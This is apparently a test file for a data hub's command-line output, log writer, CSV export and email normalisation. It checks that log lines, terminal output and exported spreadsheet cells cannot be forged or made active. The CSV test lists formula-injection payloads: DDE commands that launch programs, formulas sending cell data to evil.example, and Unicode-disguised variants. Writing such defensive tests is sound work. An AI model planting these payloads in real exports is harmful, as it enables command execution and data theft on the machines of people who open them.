import { PassThrough } from 'node:stream'
import { describe, expect, it } from 'vitest'
import { AffluentError } from '../../../core/errors/affluent-error.ts'
import { lookalikeSkeleton } from '../../../core/identity/lookalike-skeleton.ts'
import { toCsv } from '../../../core/person-request/csv.ts'
import { normaliseEmail } from '../../../core/profile/normalise-email.ts'
import { nameRecord } from '../../../hub-server/cli/name-record.ts'
import { reportError } from '../../../hub-server/cli/report-error.ts'
import { showTable } from '../../../hub-server/cli/table.ts'
import { createTerminal, type Terminal } from '../../../hub-server/cli/terminal.ts'
import { createTranslator } from '../../../hub-server/locales/translate.ts'
import { createLogger } from '../../../hub-server/telemetry/logger.ts'
import { reportFigure } from '../../support/report-figure.ts'
import { addressPairs } from './address-pairs.ts'
import { lineBreakers, moving } from './line-breakers.ts'
import { readCsv } from './read-csv.ts'

function openTerminal(): { readonly terminal: Terminal; readonly read: () => string } {
  const output = Object.assign(new PassThrough(), { isTTY: true })
  const translator = createTranslator('en')
  const terminal = createTerminal({
    stdin: new PassThrough(),
    stdout: output,
    stderr: output,
    translator,
    json: false,
    input: false,
    decorate: true,
  })
  return { terminal, read: () => String(output.read() ?? '') }
}

describe('X35: line breaks and terminal escapes in what others wrote', () => {
  it('stay inside one event of the log', (context) => {
    const lines: string[] = []
    const logger = createLogger({ level: 'debug', destination: { write: (line) => lines.push(line) } })
    for (const said of lineBreakers) logger.warn('platform_call_retried', { said, act: said, [said]: said })
    const written = lines.join('')
    const events = written.trimEnd().split(/[\n\r\u0085\u2028\u2029]/)
    reportFigure(context, {
      check: 'X35',
      claim: 'forged lines in the log',
      value: events.length - lineBreakers.length,
      of: lineBreakers.length,
      target: '0',
    })
    expect(events.map((event) => (JSON.parse(event) as { event: string }).event)).toEqual(
      lineBreakers.map(() => 'platform_call_retried'),
    )
  })

  it('stay inside one line of a terminal, and move nothing', (context) => {
    const { terminal, read } = openTerminal()
    const forged = lineBreakers.filter((text) => {
      showTable(terminal, ['name'], [[text]])
      const table = read()
      terminal.say(terminal.translator.t('profiles.segment', { segment: text, date: text }))
      const said = read()
      terminal.say(nameRecord({ connection: 'crm', stream: 'contacts', externalId: text }))
      const named = read()
      reportError(
        terminal,
        new AffluentError('usage.wrong', { act: text, missing: text, found: text }),
        false,
      )
      const error = read()
      const lines = [table, said, named, error].map((shown) => shown.trimEnd().split('\n').length)
      const counts = [2, 1, 1, 2]
      return lines.some((count, at) => count > (counts[at] ?? 0)) || moving.test(table + said + named + error)
    })
    reportFigure(context, {
      check: 'X35',
      claim: 'forged or moving lines in the terminal',
      value: forged.length,
      of: lineBreakers.length,
      target: '0',
    })
    expect(forged).toEqual([])
  })
})

/** As a spreadsheet decides: by the first character that is seen, in its usual width. */
function isActive(cell: string): boolean {
  const seen = cell
    .replace(/^[\s\p{Cf}\p{Cc}]+/u, '')
    .normalize('NFKC')
    .replace(/^−/, '-')
  return /^[=+@-]/.test(seen) && !/^[+-][\d\s().-]*$/.test(seen)
}

describe('X33: an export that is opened in a spreadsheet', () => {
  const commands = [
    `=cmd|' /C calc'!A0`,
    '=1+1',
    '=HYPERLINK("http://evil.example?x="&A1,"open")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    '@A1',
    `+cmd|' /C calc'!A0`,
    '+1+1*A1',
    '+A1',
    `-2+3+cmd|' /C calc'!A0`,
    '-A1',
    '＝1+1',
    '＝cmd|x!A0',
    '＋A1',
    '－A1',
    '＠SUM(A1)',
    '﹦1+1',
    '−A1',
    '=A1";"=B1',
    '=A1","=B1',
    '=A1\n=B1',
    '=A1\r\n=B1',
    '=\u0000A1',
    '=DDE("cmd";"/C calc";"x")',
  ]
  const disguises = ['', ' ', '   ', '\t', '\r', '\n', '\u00a0', '\u200b\ufeff']

  it('has no active cell, and keeps phone numbers and amounts as they are', (context) => {
    const payloads = commands.flatMap((command) => disguises.map((disguise) => disguise + command))
    const harmless = ['+33 6 12 34 56 78', '-12.50', '+1 (555) 010-9999', 'a=b', 'ada@example.com', '', '007']
    const table = toCsv(
      ['name', '=column'],
      [...payloads, ...harmless].map((text) => [text, `"${text}`]),
    )
    const cells = readCsv(table)
    const active = cells.flat().filter(isActive)
    reportFigure(context, {
      check: 'X33',
      claim: 'active cells of exported payloads',
      value: active.length,
      of: payloads.length,
      target: '0',
    })
    expect(payloads).toHaveLength(200)
    expect(active).toEqual([])
    expect(cells.every((row) => row.length === 2)).toBe(true)
    expect(cells.slice(-harmless.length).map(([text]) => text)).toEqual(harmless)
    // Whoever asks for it gets the texts as they were told, for a program.
    const raw = readCsv(
      toCsv(
        ['name'],
        payloads.map((text) => [text]),
        'kept',
      ),
    )
    expect(raw.slice(1).map(([text]) => text)).toEqual(payloads)
  })
})

describe('X44: Unicode in addresses', () => {
  it('100 pairs: the same mailbox is the same, what only looks alike is not, and is flagged', (context) => {
    const wrong = { merged: [] as string[], missed: [] as string[], unflagged: [] as string[] }
    for (const { one, other, same, flagged } of addressPairs) {
      const [left, right] = [normaliseEmail(one), normaliseEmail(other)]
      const isSame = typeof left === 'string' && left === right
      if (isSame && !same) wrong.merged.push(`${one} ${other}`)
      if (!isSame && same) wrong.missed.push(`${one} ${other}`)
      const isFlagged =
        typeof left === 'string' &&
        typeof right === 'string' &&
        lookalikeSkeleton(left) === lookalikeSkeleton(right)
      if (flagged && !isFlagged) wrong.unflagged.push(`${one} ${other}`)
    }
    const told = [
      ['wrong merges', wrong.merged, addressPairs.filter(({ same }) => !same)],
      ['missed merges', wrong.missed, addressPairs.filter(({ same }) => same)],
      ['look-alikes that are not flagged', wrong.unflagged, addressPairs.filter(({ flagged }) => flagged)],
    ] as const
    for (const [claim, found, all] of told)
      reportFigure(context, { check: 'X44', claim, value: found.length, of: all.length, target: '0' })
    expect(wrong).toEqual({ merged: [], missed: [], unflagged: [] })
    expect(addressPairs.length).toBeGreaterThanOrEqual(100)
  })
})
